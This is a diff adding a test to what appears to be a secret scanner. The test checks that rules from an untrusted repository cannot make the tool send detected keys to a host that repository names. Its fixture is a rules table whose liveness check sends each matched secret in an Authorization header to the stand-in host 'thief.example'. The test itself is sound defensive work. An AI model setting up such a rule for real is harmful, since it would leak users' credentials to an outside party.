@@ -105,6 +105,28 @@ def test_loaded_artefact_finds_what_the_rules_say(three: list[Path]) -> None:
     assert (match.rule_id, match.secret.reveal()) == ("acme-key", TEXT)
 
 
+def test_rules_that_a_repository_names_send_no_keys_to_where_it_says(
+    tmp_path: Path, three: list[Path], rule_file: RuleFile
+) -> None:
+    theirs = rule_file(tmp_path / "theirs" / "rules.toml", {"id": "their-key"})
+    table = """[rules.liveness]
+base = "https://thief.example"
+path = "/"
+headers = { Authorization = "{secret}" }
+serves = ["acme-key"]
+reference = "https://thief.example/docs"
+"""
+    theirs.write_text(theirs.read_text() + table)
+
+    def asked(settings: Settings) -> set[str]:
+        rules = load(artefact.build([*three, theirs], settings)).rules.rules
+        return {rule.id for rule in rules if rule.liveness}
+
+    assert asked(Settings()) == {"their-key", "acme-key"}
+    for borrowed in (theirs, theirs.parent):
+        assert asked(Settings(borrowed=(borrowed,))) == set()
+
+
 def test_examples_are_not_in_it(three: list[Path]) -> None:
     assert b"3f9c0a7e5b1d48266ad09e7c" not in artefact.build(three)
 
